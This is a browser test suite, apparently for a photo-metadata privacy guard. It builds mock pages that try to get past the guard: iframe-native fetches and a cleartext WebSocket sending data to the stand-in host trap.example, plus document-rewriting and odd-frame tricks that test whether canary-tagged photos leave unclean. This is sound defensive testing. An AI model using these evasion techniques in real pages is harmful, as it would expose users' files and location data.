import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Frame, Page } from 'puppeteer-core';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { leaks } from '../fixtures/canary.ts';
import { phoneJpeg } from '../fixtures/jpeg.ts';
import { type Bench, BROWSERS, open, until } from './harness/index.ts';

const STUDIO = 'https://studio.tripo3d.ai/';
const SPACES = 'https://huggingface.co/spaces/someone/trellis';
const SPACE = 'https://someone-trellis.hf.space/';
const TRAP = 'http://trap.example/';

const INPUT =
  '<input type="file" id="input"><script>input.onchange = () => fetch("/upload", { method: "POST", body: input.files[0] })</script>';

/** The same input, in frames and windows that are no ordinary pages. It tells its opener what it was given. */
const TELLING =
  `<!doctype html><input type="file" id="input"><script>
  const tell = (file) => file && file.text().then((text) =>
    (opener || parent).postMessage({ told: file.name, raw: text.includes('MWCANARY') }, '*'));
  input.oninput = input.onchange = () => tell(input.files[0]);</` + `script>`;

const ODD = {
  sandboxed: `frame({ sandbox: 'allow-scripts', srcdoc: TELLING })`,
  blob: `frame({ src: blobUrl() })`,
  data: `frame({ src: 'data:text/html,' + encodeURIComponent(TELLING) })`,
  script: `frame({ src: 'javascript:parent.TELLING' })`,
  window: `const opened = open('about:blank'); opened.document.write(TELLING); opened.document.close();`,
  blobWindow: `open(blobUrl())`,
};

const ODD_PAGE = `<!doctype html><html lang="en"><title>odd</title>
  ${Object.keys(ODD)
    .map((id) => `<button id="${id}">${id}</button>`)
    .join('')}
  <script>
    window.TELLING = ${JSON.stringify(TELLING).replaceAll('<', '\\x3c')};
    window.told = [];
    onmessage = ({ data }) => { if (data.told) told.push(data); };
    const frame = (what) => document.body.appendChild(Object.assign(document.createElement('iframe'), what));
    const blobUrl = () => URL.createObjectURL(new Blob([TELLING], { type: 'text/html' }));
    ${Object.entries(ODD)
      .map(([id, code]) => `document.getElementById('${id}').onclick = () => { ${code} };`)
      .join('\n')}
  </script></html>`;

/** A page that reaches for clean natives in a frame of its own, the moment the frame is there. */
const REACHING = `<!doctype html><html lang="en"><title>studio</title>
  <iframe id="srcdoc" srcdoc="${INPUT.replaceAll('"', '&quot;').replaceAll('/upload', `${STUDIO}upload`)}"></iframe>
  <button id="natives">natives</button><button id="socket">socket</button>
  ${['rewrite', 'write', 'foreign', 'moved'].map((id) => `<button id="${id}">${id}</button>`).join('')}
  <script>
    const fresh = () => document.body.appendChild(document.createElement('iframe')).contentWindow;
    natives.onclick = () => fresh().fetch('${TRAP}', { method: 'POST', body: 'raw', mode: 'no-cors' });
    const LOUD = '<input type="file" id="input"><script>' +
      'const upload = () => fetch("${STUDIO}upload", { method: "POST", body: input.files[0] });' +
      'addEventListener("input", () => input.files[0] && upload(), true); input.onchange = upload</' + 'script>';
    rewrite.onclick = () => { document.open(); document.write(LOUD); document.close(); };
    write.onclick = () => document.write(LOUD);
    foreign.onclick = () => {
      const other = fresh().document;
      Document.prototype.open.call(other);
      Document.prototype.write.call(other, LOUD);
      EventTarget.prototype.addEventListener.call(other.defaultView, 'change', () => {}, true);
    };
    moved.onclick = () => {
      const input = fresh().document.createElement('input');
      Object.assign(input, { type: 'file', id: 'input' });
      input.onchange = () => fetch('/upload', { method: 'POST', body: input.files[0] });
      document.body.append(input);
    };
    socket.onclick = () => {
      const socket = new WebSocket('ws://trap.example/');
      socket.onopen = () => { socket.send('raw one'); socket.send('raw two'); };
    };
  </script></html>`;

let folder: string;
let photo: string;
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'meshwarden-frames-'));
  photo = join(folder, 'photo.jpg');
  await writeFile(photo, await phoneJpeg());
});
afterAll(() => rm(folder, { recursive: true, force: true }));

describe.each(BROWSERS)('frames and sockets, in %s', (kind) => {
  let bench: Bench;
  let page: Page;
  beforeAll(async () => {
    bench = await open(kind, { insecure: true });
    const { world } = bench;
    world.route(STUDIO, ({ path }) => (path === '/' ? REACHING : { body: 'received' }));
    world.route(`${STUDIO}odd`, () => ODD_PAGE);
    world.route(`${STUDIO}telling`, () => TELLING);
    world.route(
      'https://huggingface.co/',
      () => `<!doctype html><title>Space</title><iframe src="${SPACE}" width="700" height="500"></iframe>`,
    );
    world.route(SPACE, ({ path }) =>
      path === '/' ? `<!doctype html><title>app</title>${INPUT}` : { body: 'received' },
    );
    world.route(TRAP, () => ({ headers: { 'access-control-allow-origin': '*' } }));
  });
  afterAll(() => bench?.close());
  beforeEach(() => bench.world.clear());
  afterEach(() => page.close());

  const received = (host: string) => bench.world.to(host, 'POST').filter(({ complete }) => complete);
  const frame = (test: (url: string) => boolean): Promise<Frame> =>
    until(() => page.frames().find((each) => each !== page.mainFrame() && test(each.url())), {
      what: 'the frame',
    });
  const pickIn = async (inside: Frame) => {
    await using input = await inside.waitForSelector('#input');
    await (input as unknown as { uploadFile(path: string): Promise<void> }).uploadFile(photo);
  };
  const trapped = () => bench.world.to('trap.example').map(({ body }) => body.toString());
  const held = () =>
    until(async () => (await bench.guardText(page)).includes('trap.example'), { what: 'the dialog' });

  it('cleans in a cross-origin frame: a Space inside of its page', async () => {
    page = await bench.page(SPACES);
    await pickIn(await frame((url) => url.startsWith(SPACE)));
    await until(() => received('someone-trellis.hf.space').length > 0);
    expect(received('someone-trellis.hf.space').flatMap(({ body }) => leaks(body))).toEqual([]);
    expect(await bench.guardText(page)).toContain('51.5014');
  });

  it('cleans in a srcdoc frame', async () => {
    page = await bench.page(STUDIO);
    await pickIn(await frame((url) => url === 'about:srcdoc'));
    await until(() => received('studio.tripo3d.ai').length > 0);
    expect(received('studio.tripo3d.ai').flatMap(({ body }) => leaks(body))).toEqual([]);
  });

  it.each(['rewrite', 'write', 'foreign', 'moved'])(
    'cleans what a trick of documents takes: %s',
    async (id) => {
      page = await bench.page(STUDIO);
      await page.click(`#${id}`);
      const inside = id === 'foreign' ? await frame((url) => !url.includes('srcdoc')) : page.mainFrame();
      await pickIn(inside);
      await until(() => received('studio.tripo3d.ai').length > 0, { what: 'the upload' });
      expect(received('studio.tripo3d.ai').flatMap(({ body }) => leaks(body))).toEqual([]);
    },
  );

  it.each(Object.keys(ODD))('cleans in a frame or window that is no ordinary page: %s', async (id) => {
    page = await bench.page(`${STUDIO}odd`);
    const opening = id.toLowerCase().includes('window');
    const [opened] = await Promise.all([
      opening ? new Promise<Page | null>((done) => page.once('popup', done)) : null,
      page.click(`#${id}`),
    ]);
    const inside = opened ? opened.mainFrame() : await frame((url) => !url.endsWith('/odd'));
    await pickIn(inside);
    type Told = { told: { told: string; raw: boolean }[] };
    const told = () => page.evaluate(() => (window as never as Told).told);
    await until(async () => (await told()).length > 1, { what: 'the file' });
    await opened?.close();
    expect((await told()).filter(({ raw }) => raw)).toEqual([]);
  });

  it('holds what leaves by the natives of a frame made a moment ago', async () => {
    page = await bench.page(STUDIO);
    await page.click('#natives');
    await held();
    await page.keyboard.press('Escape');
    await until(async () => !(await bench.guardText(page)).includes('trap.example'));
    expect(trapped()).toEqual([]);
  });

  it('holds what a socket in clear text sends, and sends it in order on a real click', async () => {
    page = await bench.page(STUDIO);
    await page.click('#socket');
    await held();
    expect(trapped().join()).not.toContain('raw');
    await bench.clickGuard(page, 'Send unencrypted');
    await until(() => trapped().join().includes('raw two'));
    expect(trapped().join()).toMatch(/raw one.*raw two/s);
  });
});
